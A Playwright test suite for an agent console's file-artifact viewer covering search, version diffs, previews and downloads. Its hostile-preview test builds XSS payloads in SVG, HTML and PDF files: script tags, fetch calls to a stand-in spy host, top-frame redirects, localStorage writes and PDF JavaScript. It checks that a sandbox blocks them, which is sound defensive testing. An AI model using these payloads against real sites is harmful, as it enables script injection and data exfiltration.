import { once } from "node:events";
import { createServer } from "node:net";
import type { Page } from "@playwright/test";
import { scripts } from "../src/testing/hostile/payloads.ts";
import { artifactsOf, type ListedArtifact, pdfOf, writeFiles } from "./artifacts.ts";
import { expectAccessible, expectNoSidewaysScroll, openSignedIn, row, signInByKey } from "./console.ts";
import { expect, test } from "./fixtures.ts";
import { pressPair } from "./keys.ts";

const rates = (count: number) =>
  `lane,eur\n${Array.from({ length: count }, (_, at) => `NL-${at},${1000 + at}.50`).join("\n")}\n`;

const address = ({ id }: ListedArtifact, query = "") => `/artifacts/${id}?agent=agent_scribe${query}`;

test("a person finds a file, looks at its versions side by side, and downloads several as one zip", async ({
  page,
  service,
}) => {
  const talk = await writeFiles(service, [
    { name: "found-rates.csv", content: rates(3_000) },
    { name: "found-notes.md", content: "# Notes\n\nOne thing.\n" },
  ]);
  await writeFiles(service, [{ name: "found-notes.md", content: "# Notes\n\nTwo things.\n" }], talk);
  await signInByKey(page);
  await pressPair(page, "g", "f");
  await expect(page.getByRole("heading", { level: 1, name: "Artifacts" })).toBeVisible();
  await page.getByRole("searchbox", { name: "Search file names" }).fill("found-");
  await expect(page).toHaveURL(/q=found-/);
  await expect(page.getByRole("table", { name: "Artifacts" }).getByRole("row")).toHaveCount(3);
  await expectAccessible(page);

  await page.getByRole("button", { name: "2 versions of found-notes.md" }).click();
  await row(page, /^Version 2/)
    .getByRole("link", { name: "Compare with 1" })
    .click();
  await expect(page.getByText("1 line changed")).toBeVisible();
  await expect(page.getByText("Two things.")).toBeVisible();
  await page.goBack();

  await page.getByRole("checkbox", { name: "Select all" }).check();
  const download = page.waitForEvent("download");
  await page.getByRole("button", { name: "Download as zip" }).click();
  expect((await download).suggestedFilename()).toBe("artifacts-2.zip");

  const grid = page.getByRole("radio", { name: "Grid" });
  // It is chosen when the address says so, which is after the click.
  await grid.click({ force: true });
  await expect(grid).toBeChecked();
  await expect(page.getByText("NL-0", { exact: true })).toBeVisible();
  await page.getByRole("link", { name: "found-rates.csv" }).click();
  await expect(page.getByRole("cell", { name: "NL-0", exact: true })).toBeVisible();
  await page.getByRole("region", { name: "Table of found-rates.csv" }).focus();
  await page.keyboard.press("End");
  await expect(page.getByRole("cell", { name: "NL-2999", exact: true })).toBeVisible();
  await expectAccessible(page);
});

const svg =
  '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="24"><rect width="40" height="24" fill="teal"/></svg>';

/** One file of each kind, and what is seen of it. */
const kinds: readonly (readonly [name: string, content: string, seen: (page: Page) => Promise<void>])[] = [
  [
    "kind-a.md",
    "# A title\n\n- [ ] open\n",
    async (page) => expect(page.getByRole("heading", { name: "A title" })).toBeVisible(),
  ],
  ["kind-a.json", '{"lane":"NL-DE"}', async (page) => expect(page.getByText('"NL-DE"')).toBeVisible()],
  [
    "kind-a.html",
    "<h1>A page</h1>",
    async (page) =>
      expect(page.frameLocator("iframe").getByRole("heading", { name: "A page" })).toBeVisible(),
  ],
  ["kind-a.svg", svg, async (page) => expect(page.getByText("40 × 24 pixels")).toBeVisible()],
  ["kind-a.py", "print('hi')\n", async (page) => expect(page.getByText("print('hi')")).toBeVisible()],
  [
    "kind-a.pdf",
    pdfOf(["First page", "Second page", "Third page"]),
    async (page) => {
      await expect(page.getByText("of 3")).toBeVisible();
      await expect(page.getByText("First page")).toBeAttached();
    },
  ],
];

test("each kind of file is looked at in its own way, on a phone too, and a PDF opens at its page", async ({
  page,
  service,
  watched,
}) => {
  test.slow();
  // The test itself looks into a frame in which nothing may run.
  watched.allow("Blocked script execution");
  const talk = await writeFiles(
    service,
    kinds.map(([name, content]) => ({ name, content })),
  );
  const artifacts = await artifactsOf(service, talk);
  const get = (name: string) => {
    const found = artifacts.get(name);
    if (!found) throw new Error(`no ${name}`);
    return found;
  };
  await signInByKey(page);
  for (const [name, , seen] of kinds) {
    await page.goto(address(get(name)));
    await seen(page);
    // A frame without any right cannot be looked into.
    if (name !== "kind-a.html") await expectAccessible(page);
  }
  await page.goto(address(get("kind-a.pdf"), "&page=3"));
  await expect(page.getByText("Third page")).toBeAttached();
  await expect(page.getByRole("textbox", { name: "Page" })).toHaveValue("3");
  await page.setViewportSize({ width: 390, height: 844 });
  for (const name of ["kind-a.pdf", "kind-a.md", "kind-a.html"]) {
    await page.goto(address(get(name)));
    await expect(page.getByRole("button", { name: "Share" })).toBeVisible();
    await expectNoSidewaysScroll(page);
  }
});

test("C-37: a link that has ended is renewed once, and the file is shown", async ({ page, service }) => {
  const talk = await writeFiles(service, [{ name: "ended.txt", content: "still here" }]);
  const found = (await artifactsOf(service, talk)).get("ended.txt");
  if (!found) throw new Error("not written");
  let asked = 0;
  await page.route("**/api/v1/files/**", (route) => {
    asked += 1;
    return asked === 1 ? route.fulfill({ status: 403, body: "{}" }) : route.continue();
  });
  await openSignedIn(page, address(found));
  await expect(page.getByText("still here", { exact: true })).toBeVisible();
  expect(asked).toBe(2);
});

test("a file in a conversation leads to the page of the artifact", async ({ page, service }) => {
  const talk = await writeFiles(service, [{ name: "chip.md", content: "# From a talk\n" }]);
  await openSignedIn(page, `/agents/agent_scribe/conversations/${talk}`);
  await page.getByRole("link", { name: "Open", exact: true }).click();
  await expect(page.getByRole("heading", { level: 2, name: "chip.md" })).toBeVisible();
  await expect(page.getByRole("heading", { name: "From a talk" })).toBeVisible();
});

/** Kinds of files in which somebody could hide something that runs. */
const disguises = ["html", "svg", "md", "json", "csv", "xml", "txt", "pdf", "js", "xhtml"];
const wrapped: Readonly<Record<string, (payload: string) => string>> = {
  svg: (payload) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="window.__xss=1"><script>window.__xss=1;fetch('https://spy.example.test/s')</script><image href="https://spy.example.test/i"/><foreignObject>${payload}</foreignObject></svg>`,
  html: (payload) =>
    `<!doctype html><base href="https://spy.example.test/"><meta http-equiv=refresh content="0;url=https://spy.example.test/r"><link rel=prefetch href=/p><link rel=stylesheet href=/c><script src=/j></script><script>top.location='https://spy.example.test/t';window.open('https://spy.example.test/w');parent.document.title='owned';localStorage.x=1</script><a href="https://spy.example.test/a" target=_top autofocus>x</a>${payload}<form action=/f><button>ok</button></form>`,
  pdf: (payload) =>
    pdfOf([payload]).replace(
      "/Type /Catalog",
      "/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    ),
};

/** A place that must never be asked: counts who connects to it, whatever they want. */
async function tripwire() {
  let connections = 0;
  const server = createServer((socket) => {
    connections += 1;
    socket.destroy();
  }).listen(0, "127.0.0.1");
  await once(server, "listening");
  const place = server.address();
  if (place === null || typeof place === "string") throw new Error("no port");
  return {
    url: `http://127.0.0.1:${place.port}`,
    count: () => connections,
    close: () => server.close(),
  };
}

/** WHEELHOUSE_LONG=1: all 500. */
const howMany = process.env.WHEELHOUSE_LONG === "1" ? 500 : 40;

test("C-10: hostile artifacts are previewed one after the other: no script of theirs runs, no request leaves, the page stays", async ({
  page,
  service,
  watched,
}) => {
  test.setTimeout(howMany * 6_000 + 60_000);
  const wire = await tripwire();
  // What Chromium says when it holds something back is what is wanted here; whether it did, the wire tells.
  watched.allow(/Blocked|Refused|violates the following Content Security Policy|sandboxed/);
  watched.allow(`foreign request: ${wire.url}`);
  const files = Array.from({ length: howMany }, (_, at) => {
    const kind = disguises[at % disguises.length] ?? "txt";
    const payload = scripts[Math.floor(at / disguises.length) % scripts.length] ?? "";
    const content = (wrapped[kind] ?? String)(`${payload} ${at}`);
    return {
      name: `hostile-${at}.${kind}`,
      content: content.replaceAll("https://spy.example.test", wire.url),
    };
  });
  const conversations: string[] = [];
  for (let at = 0; at < files.length; at += 20)
    conversations.push(await writeFiles(service, files.slice(at, at + 20)));
  const artifacts = (await Promise.all(conversations.map((talk) => artifactsOf(service, talk)))).flatMap(
    (some) => [...some.values()],
  );
  expect(artifacts).toHaveLength(howMany);
  await signInByKey(page);
  await page.evaluate(() => {
    (window as { __mine?: boolean }).__mine = true;
  });
  const popups: string[] = [];
  page.context().on("page", (one) => popups.push(one.url()));
  for (const artifact of artifacts) {
    await page.evaluate((to) => history.pushState({}, "", to), address(artifact));
    await expect(page.getByRole("heading", { level: 2, name: artifact.filename, exact: true })).toBeVisible();
    await expect(page.getByRole("status", { name: "Loading the file" })).toHaveCount(0);
    await expect(page.locator("main .appear-late")).toHaveCount(0);
  }
  const state = await page.evaluate(() => {
    const { __mine, __xss } = window as { __mine?: boolean; __xss?: unknown };
    return {
      isSamePage: __mine === true,
      xss: __xss ?? null,
      stored: localStorage.getItem("x"),
      title: document.title,
    };
  });
  expect(state).toEqual({
    isSamePage: true,
    xss: null,
    stored: null,
    title: expect.stringContaining(artifacts.at(-1)?.filename ?? ""),
  });
  expect(popups).toEqual([]);
  expect(wire.count()).toBe(0);
  // It would have counted.
  await fetch(wire.url).catch(() => {});
  expect(wire.count()).toBe(1);
  wire.close();
});
